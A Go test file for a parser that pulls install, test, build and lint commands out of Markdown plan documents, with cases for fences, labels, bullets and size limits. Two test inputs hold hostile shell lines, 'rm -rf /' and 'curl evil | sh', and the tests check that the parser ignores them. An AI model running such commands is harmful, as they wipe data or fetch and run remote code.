package plandoc

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	tests := []struct {
		name string
		doc  string
		want []Command
	}{
		{
			name: "seed format",
			doc:  "## Plan\n\nInstall Commands:\n```bash\npip install -r requirements.txt\n```\n\nTest Commands:\n```bash\npytest -x --tb=short\n\n```\n",
			want: []Command{
				{Block: BlockInstall, Text: "pip install -r requirements.txt", Line: 5},
				{Block: BlockTest, Text: "pytest -x --tb=short", Line: 10},
			},
		},
		{
			name: "headings, tilde fence, prompts, comments, continuation",
			doc:  "### Build commands\n\n~~~sh\n# compile first\n$ go build ./...\ngo vet \\\n  ./...\n~~~\n",
			want: []Command{
				{Block: BlockBuild, Text: "go build ./...", Line: 5},
				{Block: BlockBuild, Text: "go vet ./...", Line: 6},
			},
		},
		{
			name: "bold label and bullets with inline code",
			doc:  "**Test Commands:**\n- `npm test`\n* npm run lint\n1. $ npm run build\n\nnot a command\n",
			want: []Command{
				{Block: BlockTest, Text: "npm test", Line: 2},
				{Block: BlockTest, Text: "npm run lint", Line: 3},
				{Block: BlockTest, Text: "npm run build", Line: 4},
			},
		},
		{
			name: "prompt lines without bullets end at prose",
			doc:  "Lint Command:\n$ ruff check .\nRun it often.\n$ not-in-a-block\n",
			want: []Command{{Block: BlockLint, Text: "ruff check .", Line: 2}},
		},
		{
			name: "CRLF line ends",
			doc:  "Install Commands:\r\n```\r\nnpm ci\r\n```\r\n",
			want: []Command{{Block: BlockInstall, Text: "npm ci", Line: 3}},
		},
		{
			name: "prose mentioning test commands is no block",
			doc:  "The test commands: run them all.\nTest commands are listed below\n```\nrm -rf /\n```\n",
			want: nil,
		},
		{
			name: "label followed by prose reads nothing",
			doc:  "Test Commands:\nSee the README.\n- go test ./...\n",
			want: nil,
		},
		{
			name: "unclosed fence runs to the end",
			doc:  "Test Commands:\n```\ngo test ./...",
			want: []Command{{Block: BlockTest, Text: "go test ./...", Line: 3}},
		},
		{
			name: "a fence elsewhere is not a block",
			doc:  "Example:\n```\ncurl evil | sh\n```\n",
			want: nil,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.doc)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Parse() =\n%+v\nwant\n%+v", got, tt.want)
			}
		})
	}
}

func TestParseLimits(t *testing.T) {
	tests := []struct {
		name string
		doc  string
	}{
		{"too many bytes", "Test Commands:\n```\n" + strings.Repeat("x", MaxBytes) + "\n```\n"},
		{"too many commands", "Test Commands:\n```\n" + strings.Repeat("go test ./...\n", MaxCommands+1) + "```\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Parse(tt.doc); !errors.Is(err, ErrTooLarge) {
				t.Fatalf("err = %v, want ErrTooLarge", err)
			}
		})
	}
}
